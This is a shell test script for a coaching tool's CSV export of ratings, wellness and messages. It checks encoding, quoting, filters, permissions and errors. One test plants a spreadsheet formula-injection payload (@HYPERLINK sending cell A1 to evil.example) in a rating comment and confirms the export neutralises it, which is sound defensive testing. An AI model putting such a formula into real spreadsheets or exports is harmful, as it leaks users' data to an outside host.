# cox export: ratings, wellness and messages as CSV that LibreOffice and
# Excel open as written (UTF-8 with a byte-order mark, CRLF, RFC 4180
# quoting), every row of the database, filtered by squad and date, and a
# comment that a spreadsheet would run as a formula kept as text.
. "$(dirname "$0")/lib.sh"
plan 12

W=$T/ws
demo_workspace "$W"
db=$W/cox.db
printf 'Authentication-Results: mx.club.example; dmarc=pass header.from=example.org\nFrom: Alex Carter <head.coach@example.org>\nTo: team@example.org\nSubject: ratings\nMessage-ID: <export-1@example.org>\nContent-Type: text/plain\n\ndate: 2026-11-21\nJane Doe:\n  technique 4  @HYPERLINK("http://evil.example/?"&A1,"click")\n' |
	"$COX" -C "$W" mail --stdin 2>/dev/null
# csvrows FILE: the records Python's csv module reads, one per line, fields joined by |
csvrows() { /usr/bin/python3 -c '
import csv, sys
data = open(sys.argv[1], "rb").read()
assert data.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
text = data[3:].decode("utf-8")
assert "\r\n" in text and "\n" not in text.replace("\r\n", ""), "not CRLF"
for row in csv.reader(text.splitlines(True)):
    print("|".join(row))' "$1"; }

cox -C "$W" export ratings --csv
is "$rc" 0 "cox export ratings exits 0"
printf '%s' "$out" >"$T/ratings.csv"
rows=$(csvrows "$T/ratings.csv") || fail "Python's csv module reads it"
is "$(printf '%s\n' "$rows" | head -1)" "Date|Name|Handle|Squads|Metric|By|Score|Comment|Watts|W/kg" "with a header row"
is "$(( $(printf '%s\n' "$rows" | wc -l) - 1 ))" "$(sql "$db" "SELECT count(*) FROM rating")" \
	"and one record per rating in the database"
like "$(printf '%s\n' "$rows" | grep '^2026-11-21|Jane Doe')" \
	"\\|coach\\|4\\|'@HYPERLINK\\(\"http://evil.example/\\?\"&A1,\"click\"\\)\\|\\|$" \
	"a comment a spreadsheet would run as a formula stays text, whole"
like "$(grep -a 'HYPERLINK' "$T/ratings.csv")" ",\"'@HYPERLINK\\(\"\"http" "quoted, its quotes doubled"

squad=$(sql "$db" "SELECT name FROM squad ORDER BY name LIMIT 1")
cox -C "$W" export ratings --squad "$squad"
printf '%s' "$out" >"$T/squad.csv"
n=$(csvrows "$T/squad.csv" | tail -n +2 | wc -l)
is "$n:$(csvrows "$T/squad.csv" | tail -n +2 | grep -vc "$squad")" \
	"$(sql "$db" "SELECT count(*) FROM rating r JOIN membership ms ON ms.person_id = r.athlete_id JOIN squad s ON s.id = ms.squad_id WHERE s.name = '$squad'"):0" \
	"--squad keeps that squad's ratings, all of them"
cox -C "$W" export wellness --since 2026-11-01
printf '%s' "$out" >"$T/well.csv"
is "$(csvrows "$T/well.csv" | tail -n +2 | cut -d'|' -f1 | sort | head -1 | awk '$1 >= "2026-11-01" {print "ok"}')" ok \
	"--since keeps the days from then"
is "$(( $(csvrows "$T/well.csv" | wc -l) - 1 ))" "$(sql "$db" "SELECT count(*) FROM wellness WHERE day >= '2026-11-01'")" \
	"every check-in from then"

cox -C "$W" export messages --output "$T/messages.csv"
like "$out" "^wrote [0-9]+ messages rows to $T/messages.csv" "--output writes a file and says so"
is "$(stat -c %a "$T/messages.csv")" 600 "which only its owner can read"
cox -C "$W" export ratings --since 20/11/2026
like "$rc:$err" "^64:.*YYYY-MM-DD" "a date written otherwise is refused, saying how"
cox -C "$W" export ratings --squad "No Such Squad"
like "$rc:$err" "^66:.*no squad 'No Such Squad'" "an unknown squad is named"

done_testing
